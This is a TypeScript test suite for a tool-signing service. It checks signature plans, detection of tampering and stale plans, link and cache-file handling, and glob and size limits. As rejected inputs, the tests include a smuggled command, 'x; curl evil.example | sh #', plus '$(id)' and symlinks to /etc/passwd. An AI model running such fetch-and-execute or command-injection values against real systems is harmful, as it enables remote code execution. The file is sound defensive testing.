import { assert, describe, it } from "@effect/vitest"
import { Context, Effect, Layer } from "effect"
import { TestClock } from "effect/testing"
import { spawnSync } from "node:child_process"
import * as fs from "node:fs"
import { dirname, join } from "node:path"
import * as SafeFilesNode from "../../../src/layers/files/SafeFilesNode.ts"
import * as ExtractorsMemory from "../../../src/layers/format/ExtractorsMemory.ts"
import * as ItemParserBuiltin from "../../../src/layers/format/ItemParserBuiltin.ts"
import * as GitTreeProcess from "../../../src/layers/git/GitTreeProcess.ts"
import * as IdentityMemory from "../../../src/layers/identity/IdentityMemory.ts"
import * as ItemHistoryFile from "../../../src/layers/integrity/ItemHistoryFile.ts"
import * as SignaturesFile from "../../../src/layers/integrity/SignaturesFile.ts"
import * as VerifiedCopiesFile from "../../../src/layers/integrity/VerifiedCopiesFile.ts"
import * as VerifierEd25519 from "../../../src/layers/integrity/VerifierEd25519.ts"
import * as ItemStoreFile from "../../../src/layers/item/ItemStoreFile.ts"
import * as ChildProcessesNode from "../../../src/layers/process/ChildProcessesNode.ts"
import * as ProjectTrustMemory from "../../../src/layers/trust/ProjectTrustMemory.ts"
import * as SignerTrustFile from "../../../src/layers/trust/SignerTrustFile.ts"
import * as KiwiHomeNode from "../../../src/layers/workspace/KiwiHomeNode.ts"
import * as ProcessLockMemory from "../../../src/layers/workspace/ProcessLockMemory.ts"
import * as WorkspaceNode from "../../../src/layers/workspace/WorkspaceNode.ts"
import { ItemHistory } from "../../../src/services/integrity/ItemHistory.ts"
import { Signatures } from "../../../src/services/integrity/Signatures.ts"
import type { SigningPlan } from "../../../src/services/integrity/Signatures.ts"
import { VerifiedCopies } from "../../../src/services/integrity/VerifiedCopies.ts"
import { Verifier } from "../../../src/services/integrity/Verifier.ts"
import { showLocation } from "../../../src/services/item/Item.ts"
import { ItemStore } from "../../../src/services/item/ItemStore.ts"
import type { HumanAct } from "../../../src/services/trust/HumanAct.ts"
import { temporary } from "../../support/temporary.ts"

const agree = ({ request }: SigningPlan): HumanAct => ({ kind: "sign", digest: request.digest, by: "terminal" })

/** A project, a user and a system tier on disk. */
const world = Effect.gen(function*() {
  const folder = yield* temporary
  const [project, user, system] = [join(folder, "project"), join(folder, "user"), join(folder, "system")]
  for (const root of [join(project, ".ai"), user, system]) fs.mkdirSync(root, { recursive: true })
  const roots = { project: join(project, ".ai"), user, system }
  const write = (path: string, text: Uint8Array | string, mode = 0o644, tier: keyof typeof roots = "project") => {
    const file = join(roots[tier], path)
    fs.mkdirSync(dirname(file), { recursive: true })
    fs.writeFileSync(file, text)
    fs.chmodSync(file, mode)
    return file
  }
  const home = KiwiHomeNode.layerWith({
    home: join(folder, "home"),
    userSpace: user,
    systemSpace: system,
    userHome: folder
  })
  const base = Layer.mergeAll(home, ProcessLockMemory.layer, IdentityMemory.layer, ExtractorsMemory.layer)
  const files = SafeFilesNode.layer.pipe(Layer.provideMerge(base))
  const workspace = WorkspaceNode.layer(project).pipe(Layer.provideMerge(files))
  const items = Layer.mergeAll(ItemStoreFile.layer, ItemParserBuiltin.layerNoProcess).pipe(
    Layer.provideMerge(workspace)
  )
  const integrity = Layer.mergeAll(
    VerifierEd25519.layer.pipe(Layer.provideMerge(SignerTrustFile.layer)),
    VerifiedCopiesFile.layer,
    ItemHistoryFile.layer
  ).pipe(Layer.provideMerge(ProjectTrustMemory.layer), Layer.provideMerge(items))
  const context = yield* Layer.build(
    SignaturesFile.layer.pipe(
      Layer.provide(Layer.provide(GitTreeProcess.layer, ChildProcessesNode.layer)),
      Layer.provideMerge(integrity)
    )
  )
  return {
    folder,
    write,
    signatures: Context.get(context, Signatures),
    verifier: Context.get(context, Verifier),
    history: Context.get(context, ItemHistory),
    store: Context.get(context, ItemStore),
    copies: Context.get(context, VerifiedCopies)
  }
})

const python = (version: string, body = "print(1)", eol = "\n") =>
  [
    "#!/usr/bin/env python3",
    "\"\"\"Add two numbers.\"\"\"",
    `__version__ = "${version}"`,
    "__tool_type__ = \"python\"",
    "__executor_id__ = \"python_runtime\"",
    body,
    ""
  ].join(eol)

describe("SignaturesFile", () => {
  it.effect("signs exactly what it showed, in the file's own line ends and mode", () =>
    Effect.gen(function*() {
      const { signatures, store, verifier, write } = yield* world
      yield* TestClock.setTime(Date.UTC(2026, 10, 21, 21, 9, 0, 500))
      for (const [name, eol] of [["lf", "\n"], ["crlf", "\r\n"]] as const) {
        const file = write(`tools/math/${name}.py`, python("1.0.0", "print(1)", eol), 0o751)
        const plan = yield* signatures.plan({ id: name, type: "tool" })
        assert.strictEqual(plan.items.length, 1)
        assert.strictEqual(plan.items[0]!.change, "new")
        assert.include(plan.request.details, "+print(1)")
        assert.include(plan.request.details, plan.items[0]!.snapshot.digest)
        assert.strictEqual(plan.request.title, `Sign tool ${name} 1.0.0 (project)`)
        assert.strictEqual(plan.request.command, `kiwi sign tool ${name}`)
        const [signed] = yield* signatures.sign(plan, agree(plan))
        assert.strictEqual(signed?.time, "20261121T210900Z")
        const text = fs.readFileSync(file, "utf8")
        const [shebang, line, ...rest] = text.split(eol)
        assert.match(line!, /^# kiwi-mcp:signed:2:20261121T210900Z:p:[0-9a-f]{64}:[0-9a-f]{16}:[A-Za-z0-9_-]{86}$/)
        assert.strictEqual([shebang, ...rest].join(eol), python("1.0.0", "print(1)", eol))
        assert.strictEqual(fs.statSync(file).mode & 0o777, 0o751)
        const { location } = yield* store.find({ id: name })
        const { by } = yield* verifier.verify(yield* store.read(location))
        assert.strictEqual(by._tag === "Signer" && by.standing._tag, "You")
      }
    }))

  it.effect("says where the content was signed before and the signature is gone, damaged or another's", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      const file = write("tools/add.py", python("1.0.0"))
      const first = yield* signatures.plan({ id: "add" })
      yield* signatures.sign(first, agree(first))
      const signed = fs.readFileSync(file, "utf8")
      const damages: ReadonlyArray<readonly [text: string, said: string]> = [
        [python("1.0.0"), "missing"],
        [python("1.0.0", "print(1)", "\r\n"), "missing"],
        [signed.replace(/[0-9a-f]{16}:[\w-]{86}/, `0123456789abcdef:${"A".repeat(86)}`), "not yours, or damaged"],
        [signed.replace(":signed:2:", ":signed:7:"), "not yours, or damaged"]
      ]
      for (const [text, said] of damages) {
        fs.writeFileSync(file, text)
        const { items: [item], request } = yield* signatures.plan({ id: "add" })
        assert.strictEqual(item?.change, "unmarked", text)
        assert.include(request.details, `Signed here before with the same content; the signature line is ${said}.`)
        assert.notInclude(request.details, "No difference")
        assert.match(request.verdict![1], /^The same as signed before; sha256 [0-9a-f]{16}$/)
      }
      const plan = yield* signatures.plan({ id: "add" })
      yield* signatures.sign(plan, agree(plan))
      assert.strictEqual((yield* signatures.plan({ id: "add" })).items[0]!.change, "same")
    }))

  it.effect("shows the difference to what was last signed, and where to a person agreed", () =>
    Effect.gen(function*() {
      const { history, signatures, write } = yield* world
      const file = write("tools/add.py", python("1.2.0", "print(1)\nprint(2)"))
      const first = yield* signatures.plan({ id: "add" })
      yield* signatures.sign(first, agree(first))
      const { location } = first.items[0]!
      yield* history.ran(location, "1.2.0", first.items[0]!.snapshot.digest)

      fs.writeFileSync(file, fs.readFileSync(file, "utf8").replace("print(2)", "print(3)").replace("1.2.0", "1.1.0"))
      const second = yield* signatures.plan({ id: "add" })
      const [item] = second.items
      assert.strictEqual(item?.change, "changed")
      assert.include(item!.diff, "-print(2)\n+print(3)")
      assert.notInclude(item!.diff, "+print(1)")
      assert.include(item!.effects, "goes back from 1.2.0 to 1.1.0")
      const digest = item!.snapshot.digest
      assert.strictEqual((yield* Effect.flip(history.checkForward(location, "1.1.0", digest)))._tag, "GoesBack")
      yield* signatures.sign(second, agree(second))
      yield* history.checkForward(location, "1.1.0", digest)

      const third = yield* signatures.plan({ id: "add" })
      assert.strictEqual(third.items[0]!.change, "same")
      assert.strictEqual(third.items[0]!.diff, "")
      assert.deepStrictEqual((yield* signatures.plan({ id: "add", changedOnly: true })).items, [])
    }))

  it.effect("signs a folder beside it, over all of its files", () =>
    Effect.gen(function*() {
      const { signatures, store, verifier, write } = yield* world
      const manifest =
        "version: 1.0.0\ntool_type: bash\nexecutor: bash_runtime\nentrypoint: run.sh\ndescription: Fetch.\n"
      write("tools/web/fetch/tool.yaml", manifest)
      const run = write("tools/web/fetch/run.sh", "#!/bin/bash\necho hi\n", 0o755)
      const data = write("tools/web/fetch/data.bin", Uint8Array.from([0, 200, 255]))
      const plan = yield* signatures.plan({ id: "fetch" })
      assert.include(plan.request.details, "+echo hi")
      assert.include(plan.request.details, "binary file web/fetch/data.bin was added, 3 bytes")
      assert.include(plan.request.details, "web/fetch/run.sh is now executable")
      yield* signatures.sign(plan, agree(plan))
      const { location } = plan.items[0]!
      assert.match(fs.readFileSync(`${location.file}.kiwi-sig`, "utf8"), /^kiwi-mcp:signed:2:[^ ]+\n$/)
      yield* verifier.verify(yield* store.read(location))

      fs.writeFileSync(run, "echo ho\n")
      fs.rmSync(data)
      const error = yield* Effect.flip(Effect.flatMap(store.read(location), verifier.verify))
      assert.strictEqual(error._tag, "Tampered")
      const { diff } = (yield* signatures.plan({ id: "fetch" })).items[0]!
      assert.include(diff, "-#!/bin/bash\n-echo hi\n+echo ho")
      assert.include(diff, "run.sh is no longer executable")
      assert.include(diff, "binary file web/fetch/data.bin was removed")
      assert.notInclude(diff, "tool_type")
    }))

  it.effect("keeps what a file manager, an editor or Python left in a folder out of it, whatever that is", () =>
    Effect.gen(function*() {
      const { copies, signatures, store, verifier, write } = yield* world
      write(
        "tools/web/fetch/tool.yaml",
        "version: 1.0.0\ntool_type: python\nexecutor: python_runtime\nentrypoint: main.py\n"
      )
      const main = write("tools/web/fetch/main.py", "import lib.a\n")
      write("tools/web/fetch/lib/a.py", "#!/usr/bin/env python3\n", 0o755)
      const plan = yield* signatures.plan({ id: "fetch" })
      yield* signatures.sign(plan, agree(plan))
      const { location } = plan.items[0]!
      const folder = location.file

      // Python loads a compiled file without a look at its source where its header says so; a copy must never hold one.
      const unchecked = Uint8Array.from([0xcb, 0x0d, 0x0d, 0x0a, 1, 0, 0, 0, ...new Uint8Array(8)])
      write("tools/web/fetch/__pycache__/main.cpython-312.pyc", unchecked)
      write("tools/web/fetch/lib/__pycache__/a.cpython-312.pyc", unchecked)
      write("tools/web/fetch/lib/__PyCache__/a.cpython-313.pyc", unchecked)
      write("tools/web/fetch/.DS_Store", "x", 0o777)
      write("tools/web/fetch/lib/Thumbs.db", new Uint8Array(17 * 1024 * 1024))
      fs.symlinkSync("/etc/passwd", `${folder}/.#main.py`)
      fs.symlinkSync("/etc", `${folder}/__pycache__/etc`)
      fs.symlinkSync("/nowhere", `${folder}/desktop.ini`)
      fs.symlinkSync("loop~", `${folder}/loop~`)
      spawnSync("mkfifo", [`${folder}/.main.py.swp`])
      // As a FAT disk shows every file, and as a share without modes does.
      for (const mode of [0o777, 0o644]) {
        for (const file of [main, `${folder}/lib/a.py`, `${folder}/tool.yaml`]) fs.chmodSync(file, mode)
        const verified = yield* verifier.verify(yield* store.read(location))
        const copy = yield* copies.materialize(verified, "main.py")
        assert.deepStrictEqual(
          fs.readdirSync(copy.folder, { recursive: true }).map(String).toSorted(),
          ["lib", "lib/a.py", "main.py", "tool.yaml"]
        )
        assert.strictEqual(fs.statSync(`${copy.folder}/lib/a.py`).mode & 0o777, 0o500)
        assert.strictEqual(fs.statSync(`${copy.folder}/main.py`).mode & 0o777, 0o400)
      }
      // What Python would load all the same is part of the tool, as any other file.
      write("tools/web/fetch/main.pyc", unchecked)
      const error = yield* Effect.flip(Effect.flatMap(store.read(location), verifier.verify))
      assert.strictEqual(error._tag, "Tampered")
    }))

  it.effect("signs nothing when anything has changed since it was shown", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      const files = [write("tools/a.py", python("1.0.0")), write("tools/b.py", python("1.0.0"))]
      const plan = yield* signatures.plan({ id: "*", type: "tool" })
      assert.strictEqual(plan.items.length, 2)
      const before = files.map((file) => fs.readFileSync(file, "utf8"))
      write("tools/b.py", python("1.0.0", "print(9)"))
      const error = yield* Effect.flip(signatures.sign(plan, agree(plan)))
      assert.strictEqual(error._tag, "PlanStale")
      assert.include(error.message, "project:tools/b.py")
      assert.strictEqual(fs.readFileSync(files[0]!, "utf8"), before[0])
      write("tools/b.py", before[1]!)
      yield* signatures.sign(plan, agree(plan))
    }))

  it.effect("leaves no signature beside a folder that has changed since it was shown", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      write("tools/fetch/tool.yaml", "version: 1.0.0\ntool_type: bash\nexecutor: bash_runtime\nentrypoint: run.sh\n")
      write("tools/fetch/run.sh", "echo hi\n", 0o755)
      const plan = yield* signatures.plan({ id: "fetch" })
      const { file } = plan.items[0]!.location
      for (
        const change of [
          () => write("tools/fetch/run.sh", "echo ho\n", 0o755),
          () => write("tools/fetch/more.sh", "", 0o644)
        ]
      ) {
        change()
        assert.strictEqual((yield* Effect.flip(signatures.sign(plan, agree(plan))))._tag, "PlanStale")
        assert.isFalse(fs.existsSync(`${file}.kiwi-sig`))
      }
    }))

  it.effect("takes no other act, and no plan that was tampered with", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      const file = write("tools/a.py", python("1.0.0"))
      write("tools/b.py", python("1.0.0"))
      const plan = yield* signatures.plan({ id: "a" })
      const other = yield* signatures.plan({ id: "b" })
      const acts: ReadonlyArray<readonly [SigningPlan, HumanAct]> = [
        [plan, { ...agree(plan), kind: "trust-signer" }],
        [plan, { ...agree(plan), digest: "" }],
        [plan, agree(other)],
        [{ ...plan, items: other.items }, agree(plan)],
        [{ ...plan, items: [...plan.items, ...other.items] }, agree(plan)],
        [{ ...plan, request: other.request }, agree(other)]
      ]
      for (const [shown, act] of acts) {
        assert.strictEqual((yield* Effect.flip(signatures.sign(shown, act)))._tag, "HumanRequired")
      }
      assert.strictEqual(fs.readFileSync(file, "utf8"), python("1.0.0"))
    }))

  it.effect("asks about all that a glob names, and says what it cannot sign", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      for (const path of ["math/add", "math/adder", "math/deep/add3", "text/cut"]) {
        write(`tools/${path}.py`, python("1.0.0"))
      }
      write("tools/math/broken.py", python("0.0.0"))
      write("tools/mine.py", python("1.0.0"), 0o644, "user")
      const ids = (id: string, more: object = {}) =>
        Effect.map(
          signatures.plan({ id, type: "tool", ...more }),
          ({ items, refused }) => [
            items.map(({ location }) => location.id).toSorted(),
            refused.map(({ item }) => item)
          ]
        )
      const broken = ["project:tools/math/broken.py"]
      assert.deepStrictEqual(yield* ids("*"), [["add", "add3", "adder", "cut"], broken])
      assert.deepStrictEqual(yield* ids("add?"), [["add3"], []])
      assert.deepStrictEqual(yield* ids("math/*"), [["add", "adder"], broken])
      assert.deepStrictEqual(yield* ids("math/**"), [["add", "add3", "adder"], broken])
      assert.deepStrictEqual(yield* ids("**/add*"), [["add", "add3", "adder"], []])
      assert.deepStrictEqual(yield* ids("*", { category: "text" }), [["cut"], []])
      assert.deepStrictEqual(yield* ids("*", { tier: "user" }), [["mine"], []])
      const commands = [{ id: "add" }, { id: "add", category: "math" }, { id: "math/add", category: "math" }]
      for (const [at, command] of ["add", "math/add", "math/add"].entries()) {
        const { request } = yield* signatures.plan(commands[at]!)
        assert.strictEqual(request.command, `kiwi sign tool ${command}`)
      }
      for (const category of ["x; curl evil.example | sh #", "$(id)", "..", "a\nb"]) {
        for (const id of ["add", "math/add", "*"]) {
          const error = yield* Effect.flip(signatures.plan({ id, category }))
          assert.strictEqual(error._tag, "ItemIdInvalid", "what is asked for is part of a command that a person types")
        }
      }
      const plan = yield* signatures.plan({ id: "math/*", type: "tool" })
      assert.strictEqual(plan.request.title, "Sign 2 items (project)")
      assert.strictEqual(plan.request.command, "kiwi sign tool 'math/*'")
      yield* signatures.sign(plan, agree(plan))
      assert.deepStrictEqual(yield* ids("*", { changedOnly: true }), [["add3", "cut"], broken])
      assert.strictEqual((yield* Effect.flip(signatures.plan({ id: "none*" })))._tag, "ItemNotFound")
      assert.strictEqual((yield* Effect.flip(signatures.plan({ id: "broken" })))._tag, "ItemInvalid")
    }))

  it.effect("refuses patterns that are none, and stays quick on those that are meant to hurt", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      write(`tools/${"a".repeat(120)}.py`, python("1.0.0"))
      for (const id of ["../*", "{a,b}*", "[a-z]*", "!(a)*", "a\\*", "*\0", "*".repeat(257), "", "a/../b", "/a"]) {
        const error = yield* Effect.flip(signatures.plan({ id }))
        assert.include(["ItemIdInvalid", "ItemNotFound"], error._tag, id)
      }
      const started = yield* Effect.sync(() => performance.now())
      yield* Effect.flip(signatures.plan({ id: `${"*a".repeat(120)}b` }))
      assert.isBelow((yield* Effect.sync(() => performance.now())) - started, 5000)
    }))

  it.effect("says what the item hides, and remembers that it was said", () =>
    Effect.gen(function*() {
      const { history, signatures, write } = yield* world
      write("tools/add.py", python("1.0.0"))
      const alone = yield* signatures.plan({ id: "add" })
      yield* signatures.sign(alone, agree(alone))
      const { location, snapshot } = alone.items[0]!
      write("tools/math/add.py", python("3.0.0"), 0o644, "user")
      assert.isFalse(yield* history.acceptedHiding(location, snapshot.digest))
      const plan = yield* signatures.plan({ id: "add" })
      assert.deepStrictEqual(plan.items[0]!.hides.map(showLocation), ["user:tools/math/add.py"])
      assert.include(plan.request.details, "hides the user's tool add (user:tools/math/add.py)")
      yield* signatures.sign(plan, agree(plan))
      assert.isTrue(yield* history.acceptedHiding(location, snapshot.digest))
    }))

  it.effect("never signs the system tier, and says where an item is overruled by it", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      write("tools/core/run.py", python("1.0.0"), 0o644, "system")
      const error = yield* Effect.flip(signatures.plan({ id: "run" }))
      assert.strictEqual(error._tag, "ItemInvalid")
      write("tools/run.py", python("1.0.0"))
      const plan = yield* signatures.plan({ id: "run" })
      assert.include(plan.request.details, "the system's system:tools/core/run.py is protected")
      const forged = { ...plan.items[0]!, location: { ...plan.items[0]!.location, tier: "system" as const } }
      const stale = yield* Effect.flip(signatures.sign({ ...plan, items: [forged] }, agree(plan)))
      assert.strictEqual(stale._tag, "PlanStale")
    }))

  it.effect("does not write through a link", () =>
    Effect.gen(function*() {
      const { folder, signatures, write } = yield* world
      const file = write("tools/add.py", python("1.0.0"))
      const plan = yield* signatures.plan({ id: "add" })
      const outside = join(folder, "outside.py")
      fs.renameSync(file, outside)
      fs.symlinkSync(outside, file)
      const error = yield* Effect.flip(signatures.sign(plan, agree(plan)))
      assert.include(["PlanStale", "WriteRefused"], error._tag)
      assert.strictEqual(fs.readFileSync(outside, "utf8"), python("1.0.0"))
    }))

  it.effect("cuts nothing of a huge difference", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      const lines = Array.from({ length: 20_000 }, (_, n) => `x${n} = ${n}`)
      write("tools/long.py", python("1.0.0", lines.join("\n")))
      write("tools/wide.py", python("1.0.0", `x = "${"y".repeat(5000)}"`))
      const { items, request } = yield* signatures.plan({ id: "*" })
      assert.lengthOf(items, 2)
      const shown = new Set(request.details.split("\n"))
      assert.deepStrictEqual(lines.filter((line) => !shown.has(`+${line}`)), [])
      assert.isTrue(shown.has(`+x = "${"y".repeat(5000)}"`))
      assert.deepStrictEqual(request.verdict?.[1].replace(/[0-9a-f]{16}$/, ""), "2 new: 20011 lines added; sha256 ")
    }))

  it.effect("says in three short lines what matters most", () =>
    Effect.gen(function*() {
      const { history, signatures, write } = yield* world
      const head = (version: string) =>
        `${python(version).replace("print(1)", "")}REQUIRES = {"capabilities": ["fs.write"]}\n`
      const file = write("tools/add.py", head("1.2.0"))
      write("tools/add.py", python("1.0.0"), 0o644, "user")
      const first = yield* signatures.plan({ id: "add" })
      assert.deepStrictEqual([first.request.title, first.request.verdict?.[0]], [
        "Sign tool add 1.2.0 (project)",
        "Hides the user's tool add (user:tools/add.py); 2 more below"
      ])
      assert.match(first.request.verdict![1], /^New: 7 lines added; sha256 [0-9a-f]{16}$/)
      yield* signatures.sign(first, agree(first))
      yield* history.ran(first.items[0]!.location, "1.2.0", first.items[0]!.snapshot.digest)
      fs.writeFileSync(file, fs.readFileSync(file, "utf8").replace("1.2.0", "1.1.0"))
      const { request } = yield* signatures.plan({ id: "add" })
      assert.match(request.verdict![0], /^Goes back from 1\.2\.0 to 1\.1\.0; \d more below$/)
      assert.match(request.verdict![1], /^Changed: 1 line added, 1 line removed; sha256 [0-9a-f]{16}$/)
      for (const line of [request.title, ...request.verdict!]) assert.isAtMost(line.length, 76)
    }))

  it.effect("names what nobody can read, and what a command for a terminal has to say", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      const manifest = "version: 1.0.0\ntool_type: bash\nexecutor: bash_runtime\nentrypoint: run.sh\n"
      write("tools/draw/tool.yaml", manifest)
      write("tools/draw/run.sh", "echo hi\n")
      write("tools/draw/logo.png", Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0xff]))
      write("tools/draw/empty.txt", "")
      const { items, request } = yield* signatures.plan({ id: "draw", tier: "project" })
      assert.deepStrictEqual(request.unreadable, ["draw/logo.png"])
      assert.include(request.verdict![0], "Holds 1 file that nobody can read here: draw/logo.png")
      const { digest } = items[0]!.snapshot.files.find(({ path }) => path === "logo.png")!
      assert.include(request.details, `logo.png was added, 7 bytes that cannot be shown, sha256 ${digest}`)
      assert.include(request.details, "draw/empty.txt is empty")
      assert.strictEqual(request.command, "kiwi sign tool draw --tier project")
    }))

  it.effect("takes a malformed line off and signs anew", () =>
    Effect.gen(function*() {
      const { signatures, store, verifier, write } = yield* world
      const file = write("tools/add.py", `# kiwi-mcp:signed:2:nonsense\n${python("1.0.0").slice(23)}`)
      const plan = yield* signatures.plan({ id: "add" })
      yield* signatures.sign(plan, agree(plan))
      assert.notInclude(fs.readFileSync(file, "utf8"), "nonsense")
      yield* Effect.flatMap(store.read(plan.items[0]!.location), verifier.verify)
    }))
})

describe("what one act of signing is about", () => {
  const note = (body: string) => `---\ntitle: Much\nentry_type: concept\nversion: "1.0.0"\n---\n${body}\n`
  const many = (write: (path: string, text: string) => unknown, from: number, to: number, folder = "tools/many") => {
    for (let n = from; n < to; n++) write(`${folder}/t${n}.py`, python("1.0.0"))
  }

  it.effect("is at most 1,000 items, in whatever way a glob names them", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      many(write, 0, 1_001)
      many(write, 0, 1, "tools/few")
      const globs = [
        { id: "*" },
        { id: "**" },
        { id: "t*" },
        { id: "t?*" },
        { id: "many/*" },
        { id: "**/t*" },
        { id: "*", category: "many" },
        { id: "t*", type: "tool" },
        { id: "t*", tier: "project" },
        { id: "t*", changedOnly: true }
      ] as const
      for (const glob of globs) {
        const refused = yield* Effect.flip(signatures.plan(glob))
        if (refused._tag !== "TooMuchToSign") throw new Error(refused._tag)
        assert.deepStrictEqual([refused.issue, refused.most], ["items", 1_000], JSON.stringify(glob))
      }
      assert.strictEqual((yield* signatures.plan({ id: "few/*" })).items.length, 1)
      assert.strictEqual((yield* signatures.plan({ id: "t1??" })).items.length, 100)
    }))

  it.effect("leaves out what is signed already, where only changes are asked for", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      many(write, 0, 5)
      const first = yield* signatures.plan({ id: "t*" })
      yield* signatures.sign(first, agree(first))
      many(write, 5, 1_004)
      assert.strictEqual((yield* signatures.plan({ id: "t*", changedOnly: true })).items.length, 999)
      assert.strictEqual((yield* Effect.flip(signatures.plan({ id: "t*" })))._tag, "TooMuchToSign")
    }))

  it.effect("counts what cannot be signed, which is told one by one", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      for (let n = 0; n < 1_001; n++) write(`tools/t${n}.py`, "x = (\n")
      for (const changedOnly of [true, false]) {
        assert.strictEqual((yield* Effect.flip(signatures.plan({ id: "t*", changedOnly })))._tag, "TooMuchToSign")
      }
    }))

  it.effect("is at most 32 MiB, and one item is never too much", () =>
    Effect.gen(function*() {
      const { signatures, write } = yield* world
      const mebibyte = note("x".repeat(1_040_000))
      for (let n = 0; n < 33; n++) write(`knowledge/k${n}.md`, mebibyte)
      const refused = yield* Effect.flip(signatures.plan({ id: "k*" }))
      assert.deepStrictEqual([refused._tag, "issue" in refused && refused.issue], ["TooMuchToSign", "bytes"])
      assert.strictEqual((yield* signatures.plan({ id: "k1*" })).items.length, 11)
      assert.strictEqual((yield* signatures.plan({ id: "k1" })).items.length, 1)
    }))
})
